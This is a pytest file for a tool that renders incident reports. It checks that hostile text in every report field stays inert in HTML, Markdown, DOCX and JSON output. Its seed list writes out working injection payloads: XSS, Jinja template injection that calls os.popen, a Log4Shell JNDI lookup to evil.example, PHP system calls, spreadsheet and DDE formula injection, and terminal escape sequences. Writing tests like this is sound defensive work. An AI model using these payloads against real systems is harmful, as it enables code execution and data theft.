"""Hostile text in every field of a report, in every format: it is shown, and it does nothing."""

from __future__ import annotations

import io
import itertools
import json
import random
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import docx
import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from atttcli.report import IncidentReport, is_time, report_from_json, to_json
from atttcli.reports import render
from atttcli.reports.inert import paper_lines, paper_text
from atttcli.reports.layout import check_layout
from atttcli.reports.markdown import escaped

MODEL = Path(__file__).parents[1] / "golden" / "reports" / "incident.json"
FIXED = {"schema", "language", "tlp", "date"}  # fields that are no free text
SEEDS = (
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="https://evil.example/"></iframe>',
    "' onmouseover='alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<!--", "]]>", "<?php system('id') ?>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "{{ 7919*7919 }}", "{% for x in range(9**9) %}{% endfor %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{number}", "{0.__class__}", "%s%n", "${jndi:ldap://evil.example/a}",
    "[x](http://evil.example)", "![x](https://evil.example/p.png)", "[x]: http://evil.example", "<http://evil.example>",
    "<mailto:a@evil.example>", "http://evil.example/a?b=c", "HTTPS://EVIL.example", "www.evil.example", "a@evil.example",
    "ftp://evil.example", "javascript://evil.example/%0aalert(1)", "file:///etc/passwd", "\\\\evil.example\\share",
    "# x", "- x", "+ x", "* x", "> x", "1. x", "1) x", "```", "~~~", "    code", "| a | b |", "|---|", "---", "===", "<br>",
    "**b** _i_ `c` ~~d~~ $e$", "a\\", "\\", "&lt;script&gt;", "&#60;", "\n# x\n\n- [x](http://evil.example)\n",
    "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "＝1",
    "\x00\x01\x08\x0b\x0c\x1b[2J\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\ufffe\uffff", "\udc80\ud800",
    "\u202egnp.exe", "\u2066\u2069", "\u200b\ufeff", "\U000e0041", "\u2028\u2029\x85", "\r\nSet-Cookie: x", "\ue000",
    "INCLUDETEXT http://evil.example", " PAGE ", "<w:p/>", "<w:fldSimple w:instr='DDEAUTO c:\\\\x'/>", "A & B <w:br/>",
    "x" * 5000, "ộ" * 3000, "e" + "\u0301" * 500, "", " ", "\t", "\n\n\n",
)  # fmt: skip
_PAIRS = random.Random(20261123).sample(
    [f"{a}{space}{b}" for a in SEEDS for b in SEEDS for space in ("", " ", "\n")], 2_000
)
HOSTILE = (*SEEDS, *_PAIRS)


def _poisoned(start: int) -> tuple[IncidentReport, int]:
    """The made-up report with a hostile text in every free text field, from HOSTILE in turn; and how many were used."""
    texts = itertools.count(start)

    def poison(value: Any, name: str = "") -> Any:
        if isinstance(value, dict):
            return {key: poison(item, key) for key, item in value.items()}
        if isinstance(value, list):
            return [poison(item) for item in value]
        if isinstance(value, str) and not is_time(name) and name not in FIXED:
            return HOSTILE[next(texts) % len(HOSTILE)].encode("utf-8", "replace").decode("utf-8")
        return value

    plain = poison(json.loads(MODEL.read_bytes()))
    return report_from_json(json.dumps(plain).encode()), next(texts) - start


def _reports() -> Iterator[IncidentReport]:
    start = 0
    while start < len(HOSTILE):
        report, used = _poisoned(start)
        yield report
        start += used


REPORTS = list(_reports())


@pytest.mark.parametrize("report", REPORTS, ids=range(len(REPORTS)))
@pytest.mark.parametrize("language", ["vi", "en"])
def test_html_has_no_active_content(report: IncidentReport, language: str) -> None:
    page = render(report, "html", language).decode("utf-8")
    root: Element = html5lib.parse(page, namespaceHTMLElements=False)
    allowed = {
        "html", "head", "meta", "title", "style", "body", "main", "header", "footer", "section", "div", "span", "p", "h1",
        "h2", "h3", "ul", "li", "table", "colgroup", "col", "thead", "tbody", "tr", "th", "td", "br", "wbr", "figure",
        "figcaption",
    }  # fmt: skip
    drawn = ("svg", "title", "desc", "rect", "line", "circle", "polygon", "text")
    allowed |= {f"{{http://www.w3.org/2000/svg}}{name}" for name in drawn}
    shapes = {
        "viewBox", "role", "aria-label", "x", "y", "width", "height", "fill", "stroke", "stroke-width", "stroke-dasharray",
        "points", "x1", "x2", "y1", "y2", "cx", "cy", "r", "font-size", "font-weight", "text-anchor", "transform",
    }  # fmt: skip
    for node in root.iter():
        assert isinstance(node.tag, str), f"a comment: {node.text!r}"
        assert node.tag in allowed, node.tag
        plain = {"class", "scope", "lang", "charset", "name", "content", "http-equiv"}
        assert set(node.attrib) <= (shapes if "svg" in node.tag else plain), node.attrib
    assert len(root.findall(".//style")) == 1
    assert "62710561" not in page, "a template expression in data was computed"
    _nothing_raw(page)
    assert not re.search(r"(?i)\b(https?|ftp|ldap|file)://", page)


@pytest.mark.parametrize("report", REPORTS, ids=range(len(REPORTS)))
def test_markdown_has_no_html_and_no_link(report: IncidentReport) -> None:
    text = render(report, "md", "vi").decode("utf-8")
    _nothing_raw(text)
    parser = MarkdownIt("commonmark").enable("table")
    for token in parser.parse(text):
        assert token.type not in ("html_block", "fence", "code_block", "reference"), token
        for child in token.children or ():
            assert child.type not in ("html_inline", "link_open", "image", "code_inline"), child
            # What GFM links by itself, whatever is escaped in the source: schemes, www., mail addresses.
            shown = child.content
            assert not re.search(r"(?i)\b(https?|ftp|mailto|xmpp)://|www\.\w|\w@\w", shown), shown


def test_markdown_structure_is_that_of_the_harmless_report() -> None:
    harmless = render(report_from_json(MODEL.read_bytes()), "md", "vi").decode("utf-8")
    parser = MarkdownIt("commonmark").enable("table")

    def shape(text: str) -> list[str]:
        return [t.type for t in parser.parse(text) if t.type in ("heading_open", "table_open", "tr_open", "td_open")]

    for report in REPORTS:
        hostile = shape(render(report, "md", "vi").decode("utf-8"))
        assert hostile.count("heading_open") == shape(harmless).count("heading_open")
        assert hostile.count("table_open") == shape(harmless).count("table_open")


@pytest.mark.parametrize("report", REPORTS, ids=range(len(REPORTS)))
def test_docx_opens_and_holds_only_text(report: IncidentReport) -> None:
    data = render(report, "docx", "vi")
    document = docx.Document(io.BytesIO(data))
    assert len(document.tables) >= 12
    assert not [
        finding for finding in check_layout(data) if finding.box in ("inert", "margins", "paper", "page number", "font")
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            part = archive.read(name).decode("utf-8")
            _nothing_raw(part)
            if name.startswith("word/") and name.endswith(".xml"):
                body = re.sub(r'(xmlns:\w+|w:uri)="[^"]*"', "", part)
                assert not re.search(r"(?i)\b(https?|ftp|ldap|file)://", body)
                assert body.count("<w:fldSimple") == (name == "word/header1.xml")


@pytest.mark.parametrize("report", REPORTS, ids=range(len(REPORTS)))
def test_json_is_lossless_and_inert(report: IncidentReport) -> None:
    data = render(report, "json", "vi")
    assert report_from_json(data) == report
    _nothing_raw(data.decode("utf-8"))
    assert to_json(report_from_json(data)) == data


def _nothing_raw(text: str) -> None:
    """No control, bidi, zero-width, private or surrogate character but the line ends of the format itself."""
    for line in text.split("\n"):
        assert line.isprintable(), [hex(ord(c)) for c in line if not c.isprintable()][:5]


@given(st.text())
def test_paper_text_is_printable_and_settles_at_once(text: str) -> None:
    once = paper_text(text)
    assert once.isprintable()
    assert paper_text(once) == once


@given(st.text())
def test_paper_lines_keep_every_printable_word(text: str) -> None:
    lines = paper_lines(text)
    assert all(line.isprintable() and line.strip() for line in lines)
    if text.isascii() and text.isalnum():
        assert lines == [text]


@given(st.text(alphabet=st.sampled_from("\\`*_[]<>|~$&#+-=:.)1 @aw/(!\"'{}\n\t")))
def test_escaped_markdown_shows_the_same_text(text: str) -> None:
    """Rendered again, escaped text is the text itself: nothing became markup, nothing was lost."""
    line = " ".join(paper_lines(text))
    tokens = MarkdownIt("commonmark").enable("table").parse("x " + escaped(line))
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    shown = "".join(child.content for child in tokens[1].children or ())
    assert shown.replace("\u200b", "") == ("x " + line.strip().replace("[@]", "@").replace("@", "[@]")).strip()


def test_a_megabyte_in_one_field_costs_little_and_is_cut() -> None:
    import time

    plain = json.loads(MODEL.read_bytes())
    plain["timeline"][0]["text"] = "A" * 1_000_000
    plain["incident"]["title"] = "://" * 300_000
    report = report_from_json(json.dumps(plain).encode())
    started = time.process_time()
    sizes = {kind: len(render(report, kind, "vi")) for kind in ("md", "html", "docx")}
    assert time.process_time() - started < 5
    assert max(sizes.values()) < 1_000_000
